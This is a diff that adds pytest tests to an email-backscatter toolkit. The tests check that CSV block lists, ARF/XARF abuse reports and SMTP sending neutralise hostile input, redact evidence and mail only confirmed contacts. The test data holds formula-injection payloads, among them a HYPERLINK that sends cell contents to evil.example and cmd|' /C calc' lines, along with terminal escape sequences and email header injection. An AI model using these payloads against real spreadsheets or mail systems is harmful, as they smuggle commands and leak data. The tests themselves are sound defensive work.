@@ -156,3 +156,147 @@ def test_run_start_detector_marks_bursts(corpus):
     starts = hourly.filter(pl.col("run_start"))
     assert 1 <= starts.height <= 3 * tables.campaigns.height
     assert timeline.counts(tables.messages, "1d")["notifications"].sum() > 0
+
+
+# --- safe output, redacted evidence, confirmed contacts -------------------------------------------
+
+HOSTILE_CELLS = [  # (a bouncer's host name as the notification claimed it, the CSV cell written)
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'=1+1"),
+    ("\x1b[2J\x1b]0;pwned\x07mx.evil.example", "0;pwnedmx.evil.example"),
+    ("mx\u202e.evil.example", "mx.evil.example"),
+    ("mx1.bouncer.example", "mx1.bouncer.example"),
+]
+
+
+def hostile_listed(exported, hosts):
+    evidence = exported[0]
+    base = evidence.listed.head(1)
+    return pl.concat([base.with_columns(bouncer_host=pl.lit(h), bouncer_ip=pl.lit(f"192.0.2.{i + 1}"))
+                      for i, h in enumerate(hosts)])
+
+
+def test_csv_cells_are_neutralised(exported, tmp_path):
+    import csv
+
+    listed = hostile_listed(exported, [h for h, _ in HOSTILE_CELLS])
+    blocklists.write(listed, tmp_path, 3)
+    with open(tmp_path / "bouncers.csv", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [r["bouncer_host"] for r in rows] == [cell for _, cell in HOSTILE_CELLS]
+    assert int(rows[0]["backscatter"]) >= 3  # numbers stay numbers
+
+
+def test_arf_text_parts_carry_no_controls_nor_injected_fields(exported):
+    evidence, _, _ = exported
+    bouncer = hostile_listed(exported, ["\x1b[31mmx.evil.example\x1b[0m"]).with_columns(
+        bouncer_domain=pl.lit("evil.example\r\nBcc: victim@elsewhere.example")).row(0, named=True)
+    notices = evidence.notices.head(2).with_columns(arrival=pl.coalesce("received_date", "date"))
+    message = reports.arf_report(bouncer, notices, "me@example.org", "abuse@evil.example\r\nBcc: x@y.example",
+                                 evidence.owner)
+    report = BytesParser(policy=compat32).parsebytes(message.as_bytes())
+    summary, feedback = report.get_payload()[0].get_payload(), report.get_payload()[1].get_payload()
+    feedback = feedback if isinstance(feedback, str) else "".join(str(p) for p in feedback)
+    for text in (summary, feedback):
+        assert "\x1b" not in text and "\r" not in text
+    assert "Bcc" not in report and report["To"] == "abuse@evil.example Bcc: x@y.example"  # one field, not two
+    names = [line.split(":", 1)[0] for line in feedback.splitlines() if line.strip()]
+    assert names == ["Feedback-Type", "User-Agent", "Version", "Source-IP", "Arrival-Date", "Incidents",
+                     "Reported-Domain"]
+    assert "mx.evil.example" in summary
+
+
+def _decoded_texts(raw: bytes) -> str:
+    message = BytesParser(policy=compat32).parsebytes(raw)
+    texts = [raw.decode("latin-1")]
+    for part in message.walk():
+        if not part.is_multipart():
+            payload = part.get_payload(decode=True)
+            if payload:
+                texts.append(payload.decode("latin-1"))
+    return "\n".join(texts).lower()
+
+
+def test_evidence_is_redacted_by_default_and_unmodified_on_request(exported, tmp_path):
+    from toolkit.synth import world
+
+    evidence, out, _ = exported
+    raws = [_raw for _raw in (read_raw(r["source"], r["source_format"], r["location"])
+                              for r in evidence.notices.iter_rows(named=True))]
+    assert any(world.OWNER_ADDR in _decoded_texts(r) for r in raws)  # the owner is in the evidence
+    for path in (out / "arf").glob("*.eml"):
+        assert world.OWNER_ADDR not in _decoded_texts(path.read_bytes()), path.name
+    for path in (out / "xarf").glob("*.json"):
+        for item in json.loads(path.read_text())["evidence"]:
+            assert world.OWNER_ADDR not in _decoded_texts(base64.b64decode(item["payload"]))
+            assert "redacted" in item["description"]
+    reports.write(evidence, tmp_path, "me@example.org", unredacted=True)
+    attached = [base64.b64decode(i["payload"]) for p in (tmp_path / "xarf").glob("*.json")
+                for i in json.loads(p.read_text())["evidence"]]
+    assert attached and all(a in raws for a in attached)
+
+
+@pytest.mark.parametrize("argv,needle", [
+    (["--contact", "x"], "expected DOMAIN=ADDRESS"),
+    (["--contact", "example.net=nobody"], "expected DOMAIN=ADDRESS"),
+    (["--send", "--smtp-host", "127.0.0.1", "--reporter", "me@example.org"], "no bouncer has a confirmed contact"),
+    (["--contacts", "NOFILE"], "cannot read the contacts file"),
+])
+def test_export_cli_errors_are_one_line_and_exit_2(corpus, tmp_path, capsys, argv, needle):
+    from toolkit import cli
+
+    argv = [str(tmp_path / "none.csv") if a == "NOFILE" else a for a in argv]
+    code = cli.main(["export", str(corpus / "tables"), "--out", str(tmp_path / "x"), *argv])
+    err = capsys.readouterr().err
+    assert code == 2 and needle in err and err.count("\n") == 1 and "Traceback" not in err
+
+
+def test_send_goes_only_to_confirmed_contacts(corpus, tmp_path, capsys):
+    """A first run writes the contacts to review; only the row the user confirms is mailed."""
+    import csv
+
+    from aiosmtpd.controller import Controller
+
+    from toolkit import cli
+
+    contacts = tmp_path / "contacts.csv"
+    assert cli.main(["export", str(corpus / "tables"), "--out", str(tmp_path / "x"), "--write-contacts",
+                     str(contacts)]) == 0
+    with open(contacts, newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows and all(r["confirmed"] == "no" for r in rows)
+    chosen = next(r for r in rows if r["contact"])
+    chosen.update(confirmed="yes", contact="abuse-desk@registry-contact.example")
+    with open(contacts, "w", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+
+    received = []
+
+    class Handler:
+        async def handle_DATA(self, server, session, envelope):
+            received.append((envelope.rcpt_tos, envelope.content))
+            return "250 OK"
+
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    controller = Controller(Handler(), hostname="127.0.0.1", port=port)
+    controller.start()
+    try:
+        code = cli.main(["export", str(corpus / "tables"), "--out", str(tmp_path / "x"), "--contacts", str(contacts),
+                         "--send", "--smtp-host", "127.0.0.1", "--smtp-port", str(port), "--no-starttls",
+                         "--reporter", "me@example.org", "--per-minute", "6000"])
+    finally:
+        controller.stop()
+    assert code == 0
+    assert received and {r for rcpts, _ in received for r in rcpts} == {"abuse-desk@registry-contact.example"}
+    assert len(received) == len(chosen["bouncer_ips"].split())
+    assert b"To: abuse-desk@registry-contact.example" in received[0][1]
+    out = capsys.readouterr().out
+    assert "not sent:" in out
